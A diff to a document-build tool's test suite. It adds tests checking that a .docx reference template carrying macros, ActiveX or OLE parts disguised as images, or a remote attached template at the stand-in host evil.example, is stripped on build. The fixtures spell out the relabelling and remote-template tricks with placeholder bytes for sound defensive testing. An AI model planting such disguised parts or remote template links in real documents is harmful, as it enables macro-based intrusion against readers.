@@ -114,3 +114,49 @@ def test_a_reference_linked_from_outside_its_folder_is_refused(mini, cli, tmp_pa
     (mini / "templates" / "styles" / "reference.docx").symlink_to(outside)
     result = cli("build", "--root", mini, "--format", "docx")
     assert result.code == 1 and "symbolic link" in result.err and "reference.docx" in result.err
+
+
+def _relabelled(parts):
+    """Macros, a control and an OLE object that claim to be pictures and XML."""
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
+    parts["word/activeX/activeX1.xml"] = b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
+    parts["word/embeddings/ole1.bin"] = b"\xd0\xcf\x11\xe0 ole"
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", (
+        b'<Override PartName="/word/vbaProject.bin" ContentType="image/png"/>'
+        b'<Override PartName="/word/activeX/activeX1.xml" ContentType="application/xml"/>'
+        b'<Override PartName="/word/embeddings/ole1.bin" ContentType="image/png"/></Types>'))
+    _add_rel(parts, "word/_rels/document.xml.rels", "rId900", "vbaProject", "vbaProject.bin")
+    _add_rel(parts, "word/_rels/document.xml.rels", "rId901", "control", "activeX/activeX1.xml")
+    _add_rel(parts, "word/_rels/document.xml.rels", "rId902", "oleObject", "embeddings/ole1.bin")
+
+
+def _hyperlinked_template(parts):
+    _add_rel(parts, "word/_rels/settings.xml.rels", "rId2", "hyperlink", "https://evil.example/t2.dotm",
+             external=True)
+    _attached_template(parts)
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b'r:id="rId77"', b'r:id="rId2"')
+
+
+@pytest.mark.parametrize("change", [_relabelled, _hyperlinked_template])
+def test_relabelled_parts_and_typed_links_do_not_slip_through(mini, cli, change):
+    _reference(mini, change)
+    result = cli("build", "--root", mini, "--format", "docx")
+    assert result.code == 0, result.err
+    assert "left out of every brief" in result.err
+    docx = mini / "build" / "good-third-committee.docx"
+    validate_docx(docx)
+    with zipfile.ZipFile(docx) as package:
+        names = package.namelist()
+        everything = b"".join(package.read(n) for n in names)
+    assert not any(word in n.lower() for n in names for word in ("vba", "activex", "embeddings"))
+    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
+    assert b'TargetMode="External"' not in everything
+
+
+def test_an_oversized_reference_document_is_refused_unread(mini, cli):
+    target = mini / "templates" / "styles" / "reference.docx"
+    target.parent.mkdir(parents=True)
+    with open(target, "wb") as handle:
+        handle.truncate(40 << 20)
+    result = cli("build", "--root", mini, "--format", "docx")
+    assert result.code == 1 and "refused the reference document: it is 41,943,040 bytes" in result.err
